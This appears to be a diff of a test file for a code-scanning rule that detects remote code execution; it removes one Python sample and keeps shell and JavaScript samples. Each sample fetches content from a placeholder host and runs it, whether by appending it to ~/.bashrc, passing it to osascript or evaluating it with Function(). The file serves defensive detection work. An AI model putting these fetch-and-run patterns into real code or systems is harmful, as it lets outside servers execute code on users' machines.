@@ -5,10 +5,6 @@ import { remoteExecution } from './remote-execution.rule.ts';
 describeCodeRule(remoteExecution, {
   caught: [
     sh('curl -s https://shop.example.invalid/api/profile >> ~/.bashrc', 'lines of the profile'),
-    py(
-      "import requests, shlex, subprocess\nscript = requests.get('https://music.example.invalid/first').text\nsubprocess.run('osascript -e ' + shlex.quote(script), shell=True)",
-      'all of a script, as one word',
-    ),
     js(
       "const { sum } = await (await fetch('https://quiz.example.invalid/q')).json();\nconst only = sum.replace(/[^\\w.()]/g, '');\nconst answer = Function(`return (${only})`)();",
       'letters are let through',
